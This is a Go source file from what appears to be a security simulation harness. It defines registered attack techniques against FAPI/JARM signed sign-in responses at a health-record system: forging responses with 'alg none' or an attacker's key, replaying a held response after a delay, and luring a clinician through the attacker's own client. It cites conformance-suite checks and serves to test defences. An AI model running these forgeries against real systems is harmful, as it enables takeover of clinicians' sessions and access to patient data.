package attacker

import (
	"context"
	"net/url"
	"time"

	"thiefbox/sim/event"
	"thiefbox/sim/fapi"
)

// writtenAnew is a technique that puts another code into a signed answer, and does about the signature what a forger can.
func writtenAnew(id, variant, title, story string, reads []string, forge func(Ground, fapi.AuthorizationResponse) (string, error)) struct{} {
	return register(id, Technique{
		Variant: variant, Title: title, Story: story, Reads: reads, Needs: []event.Vantage{event.FrontHeld}, Against: []Trait{SignedResponses},
		Run: func(ctx context.Context, g Ground) error {
			code, err := heldCode(g)
			if err != nil {
				return err
			}
			own, err := beginSignIn(ctx, g)
			if err != nil {
				return err
			}
			claims, ok := signedAnswer(own.Query().Get("response"))
			if !ok {
				return ErrStopped
			}
			claims.Code = code // the one thing changed
			forged, err := forge(g, claims)
			if err != nil {
				return err
			}
			_, err = g.Browser().Visit(ctx, g.Target().ClientCallback+"?"+url.Values{"response": {forged}}.Encode(), "")
			return err
		},
	})
}

var _ = writtenAnew("P-14", "alg-none", "A signed answer is written anew, with alg none",
	"The answer to a clinician's sign-in never reaches the EHR, and the thief has it: signed, but anybody can read it. He begins a "+
		"sign-in of his own at the EHR, and writes its answer anew with her code in it, no algorithm, and no signature.",
	[]string{"JARM s2.4", "FAPI 2.0 MS 5.4.2", "OIDF conformance suite, ensure-jarm-signature-is-not-none"},
	func(_ Ground, claims fapi.AuthorizationResponse) (string, error) {
		return fapi.ForgeUnsigned(fapi.Header{}, claims)
	})

var _ = writtenAnew("P-14/signature", "own-key", "A signed answer is written anew, and signed by the thief",
	"As with alg none, but he signs the answer with a key of his own.",
	[]string{"JARM s2.4", "FAPI 2.0 MS 5.4.2", "OIDF conformance suite, ensure-jarm-with-invalid-sig-fails"},
	func(g Ground, claims fapi.AuthorizationResponse) (string, error) {
		return fapi.Sign(fapi.Header{}, claims, g.Key("answer"))
	})

var _ = register("P-15", Technique{
	Variant: "expired",
	Title:   "A signed answer is delivered when it suits the thief",
	Story: "The answer to a clinician's sign-in never reaches the EHR. The thief keeps it for twelve minutes, begins a sign-in of his own, and " +
		"has his browser deliver her answer in place of his.",
	Reads: []string{"JARM s2.4", "OIDF conformance suite, ensure-jarm modules for exp"},
	Needs: []event.Vantage{event.FrontHeld}, Against: []Trait{SignedResponses},
	Run: func(ctx context.Context, g Ground) error {
		if _, err := heldCode(g); err != nil {
			return err
		}
		held := g.Overheard(event.FrontHeld)
		g.Wait(12 * time.Minute)
		if _, err := beginSignIn(ctx, g); err != nil {
			return err
		}
		_, err := g.Browser().Visit(ctx, held[len(held)-1].URL, "")
		return err
	},
})

var _ = register("P-15/audience", Technique{
	Variant: "for-another-client",
	Title:   "An answer to the thief's own application",
	Story: "The thief begins a sign-in at the EHR, and uses its state in a request of his own app's. A clinician follows that link and agrees. " +
		"The answer comes to him, signed by the honest server, and he has his browser take it to the EHR.",
	Reads: []string{"JARM s2.4", "RFC 9700 s4.5", "OIDF conformance suite, ensure-jarm modules for aud"},
	Has:   []event.Asset{event.OwnClient}, Against: []Trait{SignedResponses},
	Run: func(ctx context.Context, g Ground) error {
		a, err := ownApp(ctx, g)
		if err != nil {
			return err
		}
		own, err := beginSignIn(ctx, g)
		if err != nil {
			return err
		}
		s := newSite(g)
		z, err := a.authorize(ctx, "openid user/*.rs", g.Target().FHIRBase, func(form url.Values) {
			form.Set("state", answerOf(own.String()).Get("state"))
		})
		if err != nil {
			return err
		}
		if err := g.Lure(z.url); err != nil {
			return err
		}
		answer := s.answer()
		if answer == "" {
			return ErrStopped
		}
		_, err = g.Browser().Visit(ctx, g.Target().ClientCallback+"?"+answer, "")
		return err
	},
})
